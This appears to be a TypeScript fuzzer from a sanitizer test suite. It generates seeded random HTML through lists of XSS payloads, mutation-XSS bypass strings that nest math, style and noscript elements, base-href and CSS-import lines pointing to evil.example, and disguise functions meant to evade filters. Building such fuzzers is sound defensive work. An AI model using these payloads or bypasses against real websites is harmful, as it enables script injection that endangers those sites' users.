import { createRandom } from '../robustness/random.js'

const words = (text: string): readonly string[] => text.trim().split(/\s+/)

/** Elements whose content browsers read in ways of their own, and those that change how they read what follows. */
const SPECIAL = words(`textarea title style xmp noscript noembed noframes iframe plaintext template select option script
  math mtext mi annotation annotation-xml mglyph svg foreignObject desc table tr td caption colgroup object button p a b
  form details dialog li pre blockquote span div body html`)
const PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<script>alert(1)</script>',
  '<a href="javascript:alert(1)">x</a>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<base href=//evil.example/>',
  '<style>@import "//evil.example/x.css";</style>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
] as const
/** Where comments begin and end for some readers of HTML, and not for others. */
const COMMENTS = [
  ...[
    '<!--',
    '-->',
    '--!>',
    '<!-->',
    '<!--->',
    '<!-- >',
    '<!-- --!>',
    '--\0>',
    '- ->',
    '<!--\n',
    '<!x',
    '</ x>',
    '</>',
  ],
  ...['<![CDATA[', ']]>', '<?x', '?>', '<!DOCTYPE x>', '<!--[if IE]>', '<![endif]-->'],
] as const
const NAMES = words(
  'href src title alt style class id cite data type name onclick onfocus srcdoc formaction lang data-x',
)
const SEPARATORS = [' ', ' ', ' ', '/', '\t', '\n', '\f', '\v', '\0', '"', "'", '`', '='] as const
const QUOTES = ['"', '"', '"', "'", "'", '', '`', '&quot;'] as const
const CHARACTERS = [
  '\0',
  '\x01',
  '\r',
  '\u00a0',
  '\u2028',
  '\ufeff',
  '\ufdd0',
  '\ufdd1',
  '&lt',
  '&#60',
  '&nvlt;',
  '&#0;',
]
/** Texts that have run scripts in pages of other sites. */
const KNOWN = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<table><caption><math><mtext><table><mtext><textarea><a title="</textarea><img src onerror=alert(1)>">',
  '<select><template><math><annotation-xml encoding="text/html"><textarea><img src=x onerror=alert(1)></textarea>',
  '<a href="x"><!-- > </a> -->',
  '<!-- > <iframe> -->',
] as const

/** The texts in ways of hiding them from filters. */
const DISGUISES: readonly ((text: string) => string)[] = [
  text => text,
  text => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  text => text.replaceAll('<', '&#60'),
  text => text.replace('<', '<\0'),
  text => text.replace('<', '< '),
  text => text.replace('<', '<<'),
  text => text.replace(' ', '/'),
  text => text.replaceAll('>', ''),
  text => text.replace('=', ' = '),
]

/**
 * Creates a source of random texts that mean something else to a browser than to a filter: elements that end and comments
 * that begin where only one of them sees it, within each other and within attributes. The same texts for the same seed.
 */
export function mutatingMarkup(seed: number): () => string {
  const { pick, int, several } = createRandom(seed)
  const choose = (choices: readonly (() => string)[]): string => pick(choices)()
  const disguised = () => pick(DISGUISES)(pick(PAYLOADS))
  const end = () => `</${pick(SPECIAL)}${pick(['>', '>', '>', ' >', ' x>', '/>', ''])}`
  const value = (depth: number) =>
    choose([
      () => end() + disguised(),
      () => pick(COMMENTS) + disguised(),
      () => `x${pick(QUOTES)} onfocus=alert(1) autofocus x=${pick(QUOTES)}`,
      () => `${pick(CHARACTERS)}javascript:alert(1)`,
      () => 'x',
      () => (depth < 3 ? text(depth + 1) : ''),
    ])
  const attribute = (depth: number) => {
    const quote = pick(QUOTES)
    return `${pick(SEPARATORS)}${pick(NAMES)}${pick(['=', '=', ' = ', ''])}${quote}${value(depth)}${quote}`
  }
  const start = (depth: number) =>
    `<${pick(SPECIAL)}${several(0, 2, () => attribute(depth)).join('')}${pick(['>', '>', '>', '/>', ' >', ''])}`
  const part = (depth: number): string =>
    depth > 4
      ? pick(COMMENTS)
      : choose([
          () => start(depth),
          () => start(depth) + text(depth + 1) + end(),
          end,
          disguised,
          () => pick(COMMENTS),
          () => pick(COMMENTS) + text(depth + 1) + pick(COMMENTS),
          () => pick(CHARACTERS),
          () => pick(KNOWN),
          () => pick(['x', 'x "y"', '\n\n', '\n']),
        ])
  const text = (depth: number): string => several(1, depth === 0 ? int(1, 5) : 2, () => part(depth + 1)).join('')
  return () => text(0)
}
